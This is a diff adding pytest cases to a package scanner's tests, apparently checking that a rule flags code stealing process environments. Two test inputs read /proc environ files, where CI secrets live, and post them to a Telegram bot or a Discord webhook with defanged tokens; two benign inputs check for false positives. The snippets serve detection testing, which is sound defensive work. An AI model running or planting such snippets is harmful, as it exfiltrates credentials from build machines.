@@ -281,3 +281,51 @@ def test_a_longer_name_ending_with_a_drop_host_is_not_it(host: str) -> None:
         _UPLOAD_THROUGH_A_FILE.format(host=host), "pkg/m.py", mode=ScanMode.PACKAGE
     )
     assert not {f.rule_id for f in findings} & {"CPL-THR-004", "CPL-NET-004"}
+
+
+# -- blind16: the environments of the host's processes, where a CI runner keeps its secrets -----
+
+_TELEGRAM = "https://api.telegram.org/bot7000000000:DEFANGEDdefangedDEFANGEDdefanged00/sendDocument"
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        f"""
+        import glob, requests
+        found = b"".join(open(p, "rb").read() for p in glob.glob("/proc/[0-9]*/environ"))
+        requests.post("{_TELEGRAM}", files={{"document": ("ci.txt", found)}})
+        """,
+        """
+        import requests
+        env = open("/proc/self/environ", "rb").read().replace(b"\\0", b"\\n")
+        requests.post("https://discord.com/api/webhooks/1/DEFANGED", data={"content": env})
+        """,
+    ],
+    ids=["every-process", "self"],
+)
+def test_process_environments_sent_to_a_drop_are_exfiltration(source: str) -> None:
+    assert "CPL-THR-004" in danger(source, mode=ScanMode.PACKAGE)
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        # a process inspector reading another process's environment for its own output
+        """
+        def environ(pid):
+            with open("/proc/%d/environ" % pid, "rb") as f:
+                return dict(kv.split(b"=", 1) for kv in f.read().split(b"\\0") if kv)
+        """,
+        # a notifier that posts a message of its own, in a file that never reads one
+        f"""
+        import requests
+        requests.post("{_TELEGRAM}", data={{"chat_id": 1, "text": "build done"}})
+        """,
+    ],
+    ids=["inspector", "notifier"],
+)
+def test_a_process_environment_read_without_a_drop_or_a_drop_alone_is_no_theft(
+    source: str,
+) -> None:
+    assert not danger(source, mode=ScanMode.PACKAGE) & {"CPL-THR-004", "CPL-THR-007"}
